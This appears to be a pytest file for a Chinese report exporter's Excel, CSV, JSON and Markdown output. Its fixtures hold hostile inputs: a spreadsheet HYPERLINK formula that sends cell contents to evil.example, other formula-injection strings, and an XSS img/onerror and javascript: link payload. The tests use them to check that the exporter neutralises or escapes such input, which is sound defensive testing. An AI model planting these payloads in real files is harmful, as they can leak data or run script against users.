"""Exported files as an office opens them: Excel types and safety, CSV with BOM, JSON, Markdown."""

from __future__ import annotations

import csv
import io
import json
import math
import shutil
import subprocess
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from qy_landing.errors import ChoiceError
from qy_landing.reports.common import neutralise
from qy_landing.reports.stuck import export_stuck
from qy_landing.reports.writers import (
    AMOUNT_FORMAT,
    Column,
    CsvTable,
    XlsxBook,
    cap_utf16,
    format_of,
    open_target,
)
from tests.conftest import ON_CI
from tests.reports.data import add, code, people

AS_OF = date(2026, 10, 12)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "@SUM(A1:A9)", "-2"]


@pytest.fixture
def hostile(ctx):
    """Four idle projects whose names are formulas, plus an ordinary one with persons."""
    people(ctx)
    for n, name in enumerate(HOSTILE, start=1):
        add(ctx, n, name=name, signed_on=date(2026, 8, 3), investor="=1+1")
    add(ctx, 9, signed_on=date(2026, 5, 6), amount="1234.5678", first_responsible=["张伟"])
    return ctx


def export(ctx, tmp_path, fmt, lang="zh"):
    path = tmp_path / f"stuck.{fmt}"
    with open_target(path) as stream:
        result = export_stuck(ctx, stream, fmt, as_of=AS_OF, lang=lang)
    return path, result


def test_neutralise_prefixes_formula_starts_only():
    """Text starting with = + - @ tab or CR gets a leading quote; other text is untouched."""
    assert [neutralise(t) for t in ("=1", "+1", "-1", "@A", "\tx", "\rx")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "'\tx",
        "'\rx",
    ]
    assert neutralise("环县 100MW") == "环县 100MW"
    assert neutralise("") == ""


def test_xlsx_header_frozen_filtered_typed_and_neutralised(hostile, tmp_path):
    """The sheet has a frozen header row with a filter, real dates, numbers, and no formulas."""
    path, result = export(hostile, tmp_path, "xlsx")
    assert result.count == 5
    book = load_workbook(path)
    assert book.sheetnames == ["卡滞项目", "按单位汇总"]
    sheet = book["卡滞项目"]
    assert sheet["A1"].value.startswith("卡滞项目  全部单位  截至 ")
    headers = [c.value for c in sheet[2]]
    assert headers[:8] == [
        "序号",
        "项目代码",
        "项目名称",
        "责任单位",
        "产业链",
        "协议投资额（亿元）",
        "签约日期",
        "当前阶段",
    ]
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == f"A2:S{result.count + 2}"
    assert sheet.column_dimensions["C"].width > 20
    rows = list(sheet.iter_rows(min_row=3))
    first = rows[0]  # the most stuck: project 9, signed 5-06
    assert first[1].value == code(9)
    assert isinstance(first[5].value, int | float) and first[5].value == pytest.approx(1234.5678)
    assert first[5].data_type == "n"
    assert isinstance(first[6].value, datetime) and first[6].value.date() == date(2026, 5, 6)
    assert first[6].number_format == "yyyy-mm-dd"
    assert isinstance(first[9].value, int)
    assert first[13].value == "张伟"
    names = {r[2].value for r in rows}
    for cell in (c for r in rows for c in r):
        assert cell.data_type != "f"
        assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
    assert {"'" + n for n in HOSTILE} <= names
    summary = book["按单位汇总"]
    assert [c.value for c in summary[2]][:3] == ["责任单位", "卡滞项目数", "协议投资额（亿元）"]
    assert [c.value for c in summary[3]][:2] == ["环县", 5]
    assert summary[4][0].value == "合计"
    assert summary.freeze_panes == "A3"


def test_xlsx_headers_follow_the_language(hostile, tmp_path):
    """--lang en gives English headers and English words in the cells."""
    path, _ = export(hostile, tmp_path, "xlsx", lang="en")
    sheet = load_workbook(path)["Stuck projects"]
    assert sheet["B2"].value == "Project code"
    assert sheet["I3"].value == "no progress"  # no time with the authorities: not over


def test_csv_has_a_bom_and_round_trips(hostile, tmp_path):
    """CSV is UTF-8 with BOM; the csv module reads back every row, formulas neutralised."""
    path, result = export(hostile, tmp_path, "csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0][:3] == ["序号", "项目代码", "项目名称"]
    assert len(rows) == result.count + 1
    assert rows[1][1] == code(9) and rows[1][5] == "1234.5678" and rows[1][6] == "2026-05-06"
    assert {r[2] for r in rows[1:]} >= {"'" + n for n in HOSTILE}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows[1:] for cell in r)


def test_json_is_stable_and_exact(hostile, tmp_path):
    """JSON has English keys, ISO dates, amounts as exact strings, and per-unit totals."""
    path, _ = export(hostile, tmp_path, "json")
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["as_of"] == "2026-10-12" and data["count"] == 5
    first = data["projects"][0]
    assert first["code"] == code(9)
    assert first["amount"] == "1234.5678"
    assert first["reasons"] == ["idle"]
    assert data["projects"][1]["name"] in HOSTILE  # JSON is data: no neutralising
    assert data["units"][0]["unit"] == "环县" and data["units"][0]["projects"] == 5


def test_markdown_escapes_table_cells(ctx, tmp_path):
    """A | or a line break in a name cannot break the Markdown table (the break is a space)."""
    add(ctx, 1, name="甲|乙\n丙", signed_on=date(2026, 8, 3))
    path, _ = export(ctx, tmp_path, "md")
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# 卡滞项目清单（截至 2026-10-12）")
    assert "甲\\|乙 丙" in text
    assert "## 按单位汇总" in text


def test_markdown_shows_raw_html_and_links_as_text(ctx, tmp_path):
    """HTML and Markdown links in a name are escaped: shown as written, never rendered."""
    name = '<img src=x onerror="alert(1)">[点我](javascript:alert(1)) & *强调*'
    add(ctx, 1, name=name, signed_on=date(2026, 8, 3))
    path, _ = export(ctx, tmp_path, "md")
    text = path.read_text(encoding="utf-8")
    assert "<img" not in text and "[点我](" not in text
    assert (
        '&lt;img src=x onerror="alert(1)"&gt;\\[点我\\](javascript:alert(1)) &amp; \\*强调\\*'
        in text
    )


def test_empty_export_still_has_headers(ctx, tmp_path):
    """With nothing stuck the file still opens, with its header row and a zero total."""
    path, result = export(ctx, tmp_path, "xlsx")
    assert result.count == 0
    sheet = load_workbook(path)["卡滞项目"]
    assert sheet.max_row == 2
    data = json.loads(export(ctx, tmp_path, "json")[0].read_text(encoding="utf-8"))
    assert data["projects"] == [] and data["count"] == 0


def test_format_from_the_file_name_or_the_option():
    """The format comes from --format, else the suffix; an unknown one lists the allowed."""
    assert format_of("a.XLSX", None) == "xlsx"
    assert format_of("a.markdown", None) == "md"
    assert format_of("a.txt", "json") == "json"
    assert format_of(None, None) == "csv"
    assert format_of("-", None) == "csv"
    with pytest.raises(ChoiceError) as caught:
        format_of("a.txt", None)
    assert "xlsx" in caught.value.render("en")


def test_a_failed_export_leaves_no_file(tmp_path):
    """The file appears only when complete; an error leaves nothing behind."""
    path = tmp_path / "out.csv"
    with pytest.raises(RuntimeError), open_target(path) as stream:
        stream.write(b"partial")
        raise RuntimeError("boom")
    assert list(tmp_path.iterdir()) == []


# --- where outputs go ---------------------------------------------------------------------------


def test_an_export_to_a_fifo_writes_into_it_and_leaves_a_fifo(hostile, tmp_path):
    """-o FIFO: a reader gets the CSV; the FIFO is still a FIFO, nothing written beside it."""
    import os
    import stat
    import threading

    fifo = tmp_path / "out" / "stuck.csv"
    fifo.parent.mkdir()
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    with open_target(fifo) as stream:
        export_stuck(hostile, stream, "csv", as_of=AS_OF, lang="en")
    reader.join(10)
    assert got and got[0].startswith(b"\xef\xbb\xbf") and b"Project code" in got[0]
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert sorted(p.name for p in fifo.parent.iterdir()) == ["stuck.csv"]


def test_an_export_to_dev_null_leaves_the_device_alone(hostile, tmp_path):
    """-o /dev/null (directly and through a symlink) writes into the device, never over it."""
    import os
    import stat

    link = tmp_path / "out.csv"
    link.symlink_to("/dev/null")
    before = os.stat("/dev/null")
    for target in ("/dev/null", link):
        with open_target(target) as stream:
            export_stuck(hostile, stream, "csv", as_of=AS_OF, lang="en")
    after = os.stat("/dev/null")
    assert stat.S_ISCHR(after.st_mode) and after.st_rdev == before.st_rdev
    assert after.st_ino == before.st_ino
    assert link.is_symlink() and os.readlink(link) == "/dev/null"


def test_a_symlinked_file_is_replaced_at_its_target_keeping_the_link(hostile, tmp_path):
    """-o LINK to a regular file: the target gets the new content and keeps its mode."""
    target = tmp_path / "real" / "stuck.csv"
    target.parent.mkdir()
    target.write_text("old", encoding="utf-8")
    target.chmod(0o640)
    link = tmp_path / "stuck.csv"
    link.symlink_to(target)
    with open_target(link) as stream:
        export_stuck(hostile, stream, "csv", as_of=AS_OF, lang="en")
    assert link.is_symlink()
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    assert oct(target.stat().st_mode & 0o777) == "0o640"


def test_an_unwritable_place_is_one_clear_error(tmp_path):
    """A directory, or a file under /proc, is refused as an output naming the path."""
    from qy_landing.errors import OutputFileError

    for place in (tmp_path, "/proc/version.csv"):
        with pytest.raises(OutputFileError) as caught, open_target(place) as stream:
            stream.write(b"x")
        assert str(place) in caught.value.render("en")


# --- the xlsx writer's edge values, read back by openpyxl and by LibreOffice ---------------

EDGE_COLUMNS = [
    Column("a", "date", 12),
    Column("b", "amount", 12),
    Column("c", "float", 10),
    Column("d", "text", 20),
]
EDGE_HEADERS = ["date", "amount", "float", "text"]
ASTRAL = "𠀀"  # CJK Extension B: one code point, two UTF-16 units
LONG = "甲" + ASTRAL * 20000  # 20 001 code points, 40 001 UTF-16 units


def edge_rows() -> list[list[object]]:
    return [
        [datetime(2026, 5, 6, 13, 30), 5, math.nan, "plain"],
        [date(2026, 5, 7), Decimal("1234.5678"), math.inf, LONG],
        [None, 7.25, -math.inf, "=1+1"],
        [datetime(2026, 5, 8), Decimal("NaN"), 2.5, "x"],
    ]


def write_edges(path: Path) -> Path:
    book = XlsxBook("en")
    sheet = book.sheet("edges", EDGE_COLUMNS, EDGE_HEADERS)
    for row in edge_rows():
        sheet.append(row)
    with open_target(path) as stream:
        book.save(stream)
    return path


def utf16_units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def test_cap_counts_utf16_units_and_keeps_pairs_whole():
    """The 32 767 cap counts UTF-16 units; an astral character is never cut in half."""
    assert cap_utf16("ab" * 10, limit=5) == "abab" + "a"
    assert cap_utf16("a" + ASTRAL * 3, limit=4) == "a" + ASTRAL  # a third unit would split
    assert utf16_units(cap_utf16(LONG)) == 32767
    assert cap_utf16("短") == "短"


def test_xlsx_edge_values_read_back_with_openpyxl(tmp_path):
    """Datetimes in date columns, int amounts, NaN/inf and astral text give a valid file."""
    sheet = load_workbook(write_edges(tmp_path / "edges.xlsx"))["edges"]
    rows = list(sheet.iter_rows(min_row=2))
    first, second, third, fourth = rows
    assert first[0].value == datetime(2026, 5, 6, 13, 30)
    assert first[0].number_format == "yyyy-mm-dd"
    assert first[1].value == 5 and first[1].number_format == AMOUNT_FORMAT
    assert first[2].value is None  # NaN: no number, an empty cell
    assert second[0].value == datetime(2026, 5, 7)
    assert second[1].value == pytest.approx(1234.5678)
    assert second[1].number_format == AMOUNT_FORMAT
    assert second[2].value is None and third[2].value is None  # ±inf
    assert second[3].value.startswith("甲" + ASTRAL)
    assert utf16_units(second[3].value) == 32767
    assert third[0].value is None
    assert third[1].value == 7.25 and third[1].number_format == AMOUNT_FORMAT
    assert third[3].value == "'=1+1"
    assert fourth[0].value == datetime(2026, 5, 8)
    assert fourth[1].value is None and fourth[2].value == 2.5


def test_csv_edge_values_are_plain_text(tmp_path):
    """The CSV writer shows the same values: ISO dates, exact amounts, no 'nan' or 'inf'."""
    path = tmp_path / "edges.csv"
    with open_target(path) as stream:
        table = CsvTable(stream, EDGE_COLUMNS, "en", EDGE_HEADERS)
        for row in edge_rows():
            table.append(row)
        table.close()
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1][:3] == ["2026-05-06T13:30:00", "5", ""]
    assert rows[2][1:3] == ["1234.5678", ""]
    assert rows[3][:3] == ["", "7.25", ""]
    assert rows[4][1:3] == ["", "2.5"]


def soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
def test_xlsx_edge_values_open_in_libreoffice(tmp_path):
    """LibreOffice opens the file and shows dates, amounts with their format, and the text."""
    binary = soffice()
    if binary is None:
        if ON_CI:
            pytest.fail("LibreOffice (soffice) is required under CI=true")
        pytest.skip("LibreOffice (soffice) is not installed")
    source = write_edges(tmp_path / "edges.xlsx")
    out = tmp_path / "out"
    # UTF-8 (76), comma-separated (44), "-quoted (34), formatted as shown (last field true)
    fmt = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true"
    done = subprocess.run(
        [
            binary,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            fmt,
            "--outdir",
            str(out),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    converted = out / "edges.csv"
    assert done.returncode == 0 and converted.exists(), done.stderr
    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"), newline="")))
    assert rows[0] == EDGE_HEADERS
    assert rows[1][:3] == ["2026-05-06", "5.00", ""]
    assert rows[2][:3] == ["2026-05-07", "1,234.5678", ""]
    assert rows[2][3].startswith("甲" + ASTRAL) and utf16_units(rows[2][3]) == 32767
    assert rows[3] == ["", "7.25", "", "'=1+1"]
    assert rows[4] == ["2026-05-08", "", "2.5", "x"]


def test_a_narrow_sheet_widens_its_columns_so_the_title_is_not_cut(tmp_path):
    """Two narrow columns under a long title: the columns widen alike to hold the title."""
    from qy_landing.i18n import display_width
    from qy_landing.reports.writers import PrintTitle

    title = PrintTitle("项目落地月度调度材料", as_of=AS_OF, generated_at=datetime(2026, 10, 12, 9))
    book = XlsxBook("zh", title)
    sheet = book.sheet("概况", [Column("unit", width=8), Column("rank", "int", width=6)])
    sheet.append(["环县", 3])
    path = tmp_path / "narrow.xlsx"
    with path.open("wb") as stream:
        book.save(stream)
    read = load_workbook(path).worksheets[0]
    widths = [read.column_dimensions[letter].width for letter in ("A", "B")]
    heading = str(read["A1"].value)
    assert sum(widths) >= display_width(heading) * 14 / 11
    assert min(widths) > 40  # both widened alike, not one very wide column
